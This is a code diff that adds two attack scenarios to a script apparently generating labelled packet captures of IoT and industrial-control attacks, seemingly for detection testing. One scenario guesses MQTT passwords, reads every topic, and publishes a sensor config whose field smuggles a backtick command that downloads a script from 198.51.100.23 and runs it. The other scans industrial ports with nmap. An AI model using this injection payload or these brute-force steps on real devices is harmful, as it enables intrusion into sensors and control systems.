@@ -87,6 +87,35 @@ def mqtt_brute():
         return s.save("mqtt/brute-force.pcap", START)
 
 
+def mqtt_outside():
+    """From the internet: MQTT 5 passwords guessed, every topic read below one level, a command sent to a sensor."""
+    with Site(["mqtt01", "attacker"]) as s:
+        s.addresses()
+        things.broker(s)
+        things.wait(0.8)
+        s.record()
+        to = ("-h", address("mqtt01"))
+        for n in range(14):
+            s.run("attacker", "mosquitto_pub", "-V", "5", *to, "-i", f"m5-{n}", "-u", "dashboard", "-P", f"admin{n}", "-t", "x", "-m", "x")
+        account = ("-u", "dashboard", "-P", things.ACCOUNTS["dashboard"])
+        s.run("attacker", "mosquitto_sub", *to, "-i", "reader", *account, "-t", "+/#", "-W", "1")
+        s.run("attacker", "mosquitto_pub", *to, "-i", "writer", *account, "-t", "sensors/cai-rang/config",
+              "-m", "{\"ntp\":\"`wget http://198.51.100.23/m -O /tmp/m; sh /tmp/m`\"}")
+        return s.save("mqtt/outside.pcap", START)
+
+
+def modbus_internet():
+    """nmap from the internet finds the RTU's port open; one read follows."""
+    with Site([RTU, "attacker"]) as s:
+        s.addresses()
+        things.rtu(s, RTU)
+        tool = build_c(s, "mbtool")
+        s.record()
+        s.run("attacker", "nmap", "-n", "-Pn", "-sS", "-p", "102,502,2404,20000,44818", address(RTU))
+        s.run("attacker", tool, address(RTU), 1, "rh:0:10")
+        return s.save("modbus/internet.pcap", START)
+
+
 def camera_scan():
     """nmap against a camera from the internet: SYN scan, then versions."""
     with Site([CAMERA, "attacker"]) as s:
@@ -323,7 +352,8 @@ def lorawan_second_server():
         return s.save("lorawan/second-server.pcap", START)
 
 
-ALL = [modbus_write_stranger, modbus_recon, modbus_write_burst, mqtt_wildcard, mqtt_brute, camera_scan, camera_default_login,
+ALL = [modbus_write_stranger, modbus_recon, modbus_write_burst, modbus_internet, mqtt_wildcard, mqtt_brute, mqtt_outside,
+       camera_scan, camera_default_login,
        camera_http_brute, camera_outside, telnet_loader, ssh_brute, dns_tunnel, new_resolver, tls_self_signed, coap_discovery,
        http_exploits, cwmp, s7_stop, telecontrol_command, ftp_other_server, lorawan_second_server]
 
